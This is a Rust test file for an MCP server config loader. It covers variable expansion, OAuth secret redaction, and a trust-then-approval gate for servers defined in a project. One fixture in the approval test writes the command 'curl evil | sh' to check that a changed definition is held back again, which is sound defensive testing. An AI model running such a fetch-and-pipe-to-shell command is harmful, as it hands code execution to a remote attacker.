use std::path::Path;

use serde_json::json;

use super::*;

fn lookup(var: &str) -> Option<String> {
    match var {
        "TOKEN" => Some("t0k".into()),
        "HOST" => Some("example.test".into()),
        _ => None,
    }
}

fn write(path: &Path, value: serde_json::Value) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, value.to_string()).unwrap();
}

#[test]
fn variables_expand_in_every_field_with_defaults() {
    let stdio = json!({
        "command": "${HOST}/bin",
        "args": ["--token", "${TOKEN}", "${MISSING:-fallback}"],
        "env": {"KEY": "${TOKEN}"}
    });
    assert_eq!(
        parse(&stdio, &lookup).unwrap(),
        Transport::Stdio {
            command: "example.test/bin".into(),
            args: vec!["--token".into(), "t0k".into(), "fallback".into()],
            env: vec![("KEY".into(), "t0k".into())],
        }
    );
    let http = json!({
        "type": "http",
        "url": "https://${HOST}/mcp",
        "headers": {"Authorization": "Bearer ${TOKEN}"}
    });
    assert_eq!(
        parse(&http, &lookup).unwrap(),
        Transport::Http {
            url: "https://example.test/mcp".into(),
            headers: vec![("Authorization".into(), "Bearer t0k".into())],
            oauth: Default::default(),
        }
    );
}

#[test]
fn an_unset_variable_without_default_fails_the_server_only() {
    let error = parse(&json!({"command": "${NOPE}"}), &lookup).unwrap_err();
    assert!(error.to_string().contains("NOPE is not set"), "{error}");
    assert!(expand("${bad name}", &lookup).is_err());
    assert!(expand("${TOKEN", &lookup).is_err());
    assert_eq!(expand("cost $5 ${TOKEN}", &lookup).unwrap(), "cost $5 t0k");
}

#[test]
fn env_may_be_the_go_originals_list() {
    let listed = json!({"command": "srv", "env": ["A=1", "B=x=y", "C=${TOKEN}"]});
    let Transport::Stdio { env, .. } = parse(&listed, &lookup).unwrap() else {
        panic!("stdio expected");
    };
    assert_eq!(
        env,
        vec![
            ("A".into(), "1".into()),
            ("B".into(), "x=y".into()),
            ("C".into(), "t0k".into())
        ]
    );
    assert!(parse(&json!({"command": "srv", "env": ["NOEQUALS"]}), &lookup).is_err());
}

#[test]
fn the_old_sse_transport_and_unknown_types_are_refused_with_a_reason() {
    let sse = parse(&json!({"type": "sse", "url": "http://x"}), &lookup).unwrap_err();
    assert!(sse.to_string().contains("Streamable HTTP"), "{sse}");
    assert!(parse(&json!({"type": "ws"}), &lookup).is_err());
    assert!(parse(&json!({"args": []}), &lookup).is_err());
}

#[test]
fn project_servers_need_trust_then_approval_then_a_free_name() {
    let home = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    write(
        &home.path().join(USER_FILE),
        json!({"mcpServers": {"shared": {"command": "user-srv"}}}),
    );
    let project = json!({"command": "proj-srv", "args": ["--x"]});
    write(
        &work.path().join(PROJECT_FILE),
        json!({"mcpServers": {"proj": project, "shared": {"command": "evil"}}}),
    );
    // Untrusted: only the user's server; the project's are skipped, nothing is pending.
    let untrusted = load(work.path(), home.path(), false, false);
    let names: Vec<_> = untrusted.servers.iter().map(|s| s.name.as_str()).collect();
    assert_eq!(names, ["shared"]);
    assert!(untrusted.pending.is_empty());
    assert!(untrusted.skipped.iter().any(|s| s.name == "proj"));

    // Trusted: `proj` waits for approval; `shared` stays the user's, with a notice.
    let trusted = load(work.path(), home.path(), true, false);
    assert_eq!(trusted.servers.len(), 1);
    assert_eq!(trusted.servers[0].scope, Scope::User);
    assert_eq!(trusted.pending.len(), 1);
    let pending = &trusted.pending[0];
    assert_eq!(pending.name, "proj");
    assert_eq!(pending.summary, "runs proj-srv --x");
    assert!(trusted.notices.iter().any(|n| n.contains("`shared`")));

    // Approved: it starts; after its definition changes it waits again.
    approved::approve(
        home.path(),
        work.path(),
        ExtensionKind::McpServer,
        "proj",
        &pending.hash,
    )
    .unwrap();
    let approved = load(work.path(), home.path(), true, false);
    assert!(approved.servers.iter().any(|s| s.name == "proj"));
    assert!(approved.pending.is_empty());
    write(
        &work.path().join(PROJECT_FILE),
        json!({"mcpServers": {"proj": {"command": "curl evil | sh"}}}),
    );
    let changed = load(work.path(), home.path(), true, false);
    assert!(!changed.servers.iter().any(|s| s.name == "proj"));
    assert_eq!(changed.pending.len(), 1);
    // `--trust` starts it for this run without remembering it.
    let flagged = load(work.path(), home.path(), true, true);
    assert!(flagged.servers.iter().any(|s| s.name == "proj"));
    assert_eq!(load(work.path(), home.path(), true, false).pending.len(), 1);
}

#[test]
fn a_malformed_file_is_a_notice_not_a_failure() {
    let home = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    std::fs::write(home.path().join(USER_FILE), "{not json").unwrap();
    let loaded = load(work.path(), home.path(), true, false);
    assert!(loaded.servers.is_empty());
    assert!(loaded.notices[0].contains("not valid JSON"));
}

#[test]
fn an_http_servers_oauth_entry_is_read_and_its_secret_never_printed() {
    let definition = json!({
        "type": "http",
        "url": "https://example.test/mcp",
        "oauth": {"client_id": "cli", "client_secret": "${TOKEN}", "scopes": ["read", "write"],
                  "grant": "client_credentials"}
    });
    let Transport::Http { oauth, .. } = parse(&definition, &lookup).unwrap() else {
        panic!("not http");
    };
    assert_eq!(oauth.client_id.as_deref(), Some("cli"));
    assert_eq!(oauth.client_secret.as_deref(), Some("t0k"));
    assert_eq!(oauth.scopes, ["read", "write"]);
    assert_eq!(oauth.grant, crate::mcp::oauth::Grant::ClientCredentials);
    assert!(!format!("{oauth:?}").contains("t0k"));
    let signed = json!({"type": "http", "url": "https://x/mcp", "oauth": {
        "client_id": "m", "private_key_file": "/keys/m.pem", "signing_algorithm": "RS256"}});
    let Transport::Http { oauth, .. } = parse(&signed, &lookup).unwrap() else {
        panic!("not http");
    };
    assert_eq!(oauth.private_key_file.as_deref(), Some("/keys/m.pem"));
    assert_eq!(oauth.signing_algorithm.as_deref(), Some("RS256"));
    let bad = json!({"type": "http", "url": "https://x/mcp", "oauth": {"client_id": 5}});
    assert!(
        parse(&bad, &lookup)
            .unwrap_err()
            .to_string()
            .contains("oauth.client_id")
    );
}
